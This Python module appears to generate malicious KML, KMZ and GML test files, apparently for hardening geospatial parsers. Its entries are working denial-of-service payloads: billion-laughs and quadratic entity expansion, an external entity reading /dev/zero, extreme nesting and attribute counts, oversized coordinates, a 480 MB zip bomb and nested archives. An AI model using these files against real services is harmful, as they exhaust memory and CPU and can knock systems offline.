"""KML, KMZ and GML."""

from __future__ import annotations

from bombs.archives import within
from bombs.build import LAUGHS, POINTS, RING, Build, packed, text

_PLACE = "<Placemark><name>a</name>{}</Placemark>"
_POLYGON = (
    "<Polygon><outerBoundaryIs><LinearRing><coordinates>{}</coordinates></LinearRing>"
    "</outerBoundaryIs></Polygon>"
)
_TRIPLES = " ".join(f"{x},{y}" for x, y in POINTS)


def kml(body: str, head: str = "") -> str:
    """Return a KML document."""
    return f'{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'


def gml(body: str, head: str = "") -> str:
    """Return a GML collection."""
    return (
        f'{head}<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
        f'xmlns:gml="http://www.opengis.net/gml">{body}</ogr:FeatureCollection>'
    )


def _gml_feature(rings: str) -> str:
    return (
        "<gml:featureMember><ogr:a><ogr:geometryProperty><gml:Polygon>"
        f"{rings}</gml:Polygon></ogr:geometryProperty></ogr:a></gml:featureMember>"
    )


_GML_RING = (
    "<gml:{0}BoundaryIs><gml:LinearRing><gml:coordinates>"
    f"{_TRIPLES}</gml:coordinates></gml:LinearRing></gml:{{0}}BoundaryIs>"
)

XML: dict[str, Build] = {
    "kml-laughs": text("laughs.kml", kml("<name>&j;</name>", LAUGHS)),
    "kml-blowup": text(
        "blowup.kml",
        lambda: kml(
            "<name>" + "&a;" * 100_000 + "</name>",
            '<!DOCTYPE x [<!ENTITY a "{}">]>'.format("z" * 100_000),
        ),
    ),
    "kml-outside": text(
        "outside.kml", kml("<name>&a;</name>", '<!DOCTYPE x [<!ENTITY a SYSTEM "/dev/zero">]>')
    ),
    "kml-deep": text("deep.kml", lambda: kml("<a>" * 300_000 + "</a>" * 300_000)),
    "kml-deep-parts": text(
        "parts.kml",
        lambda: kml(_PLACE.format("<MultiGeometry>" * 100_000 + "</MultiGeometry>" * 100_000)),
    ),
    "kml-attributes": text(
        "attributes.kml",
        lambda: kml("<a " + " ".join(f'b{number}=""' for number in range(200_000)) + "/>"),
    ),
    "kml-same-attribute": text("same.kml", lambda: kml("<a " + 'b="" ' * 300_000 + "/>")),
    "kml-prefixes": text(
        "prefixes.kml", lambda: kml("".join(f"<p{n}:a/>" for n in range(100_000)))
    ),
    "kml-placemarks": text("placemarks.kml", lambda: kml("<Placemark/>" * 250_000)),
    "kml-rings": text(
        "rings.kml",
        lambda: kml(
            _PLACE.format(
                _POLYGON.format(_TRIPLES).removesuffix("</Polygon>")
                + "<innerBoundaryIs><LinearRing><coordinates>"
                "1,1 2,1 2,2 1,1</coordinates></LinearRing></innerBoundaryIs>"
                * 30_000
                + "</Polygon>"
            )
        ),
    ),
    "kml-columns": text(
        "columns.kml",
        lambda: kml(
            "".join(
                f'<Placemark><ExtendedData><Data name="c{n}"><value>1</value></Data>'
                f"</ExtendedData>{_POLYGON.format(_TRIPLES)}</Placemark>"
                for n in range(8_000)
            )
        ),
    ),
    "kml-commas": text(
        "commas.kml", lambda: kml(_PLACE.format(_POLYGON.format("113.5," * 400_000)))
    ),
    "kml-blanks": text(
        "blanks.kml", lambda: kml(_PLACE.format(_POLYGON.format("113.5" + " " * 2_000_000)))
    ),
    "kml-signs": text(
        "signs.kml", lambda: kml(_PLACE.format(_POLYGON.format("- , " * 500_000 + "x")))
    ),
    "kml-table": text(
        "table.kml",
        lambda: kml(
            _PLACE.format(
                f"<description>{'&lt;table&gt;&lt;tr&gt;&lt;td&gt;' * 60_000}</description>"
                + _POLYGON.format(_TRIPLES)
            )
        ),
    ),
    "kml-half-tags": text(
        "half.kml",
        lambda: kml(
            _PLACE.format(
                f"<description>{'&lt;' * 400_000}</description>{_POLYGON.format(_TRIPLES)}"
            )
        ),
    ),
    "kml-schemas": text(
        "schemas.kml",
        lambda: kml(
            '<Schema id="s">'
            + "".join(f'<SimpleField type="string" name="c{n}"/>' for n in range(30_000))
            + "</Schema>"
            + _PLACE.format(_POLYGON.format(_TRIPLES)) * 300
        ),
    ),
    "gml-laughs": text("laughs.gml", gml("<gml:name>&j;</gml:name>", LAUGHS)),
    "gml-deep": text("deep.gml", lambda: gml("<ogr:a>" * 200_000 + "</ogr:a>" * 200_000)),
    "gml-deep-geometry": text(
        "geometry.gml",
        lambda: gml(
            "<gml:featureMember><ogr:a><ogr:g>"
            + "<gml:MultiGeometry><gml:geometryMember>" * 40_000
            + "</gml:geometryMember></gml:MultiGeometry>" * 40_000
            + "</ogr:g></ogr:a></gml:featureMember>"
        ),
    ),
    "gml-rings": text(
        "rings.gml",
        lambda: gml(_gml_feature(_GML_RING.format("outer") + _GML_RING.format("inner") * 8_000)),
    ),
    "gml-columns": text(
        "columns.gml",
        lambda: gml(
            "".join(
                f"<gml:featureMember><ogr:a><ogr:c{n}>1</ogr:c{n}></ogr:a></gml:featureMember>"
                for n in range(20_000)
            )
        ),
    ),
    "gml-links": text(
        "links.gml",
        lambda: gml(
            '<gml:featureMember><ogr:a><ogr:g><gml:Surface gml:id="s" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><gml:patches xlink:href="#s"/>'
            "</gml:Surface></ogr:g></ogr:a></gml:featureMember>"
        ),
    ),
    "gml-array": text(
        "array.gml",
        gml(
            _gml_feature(
                "<gml:exterior><gml:LinearRing><gml:posList srsDimension='2000000000' "
                f"count='2000000000'>{RING.replace(',', '')}</gml:posList></gml:LinearRing>"
                "</gml:exterior>"
            )
        ),
    ),
    "kmz-spaces": packed("spaces.kmz", {"doc.kml": lambda: b"<kml>" + b" " * 480_000_000}),
    "kmz-triples": packed(
        "triples.kmz",
        {
            "doc.kml": lambda: kml(
                _PLACE.format(_POLYGON.format((_TRIPLES + " ") * 220_000))
            ).encode()
        },
    ),
    "kmz-in-kmz": within("nested.kmz", 4),
    "ovkmz-in-ovkmz": within("nested.ovkmz", 3),
}
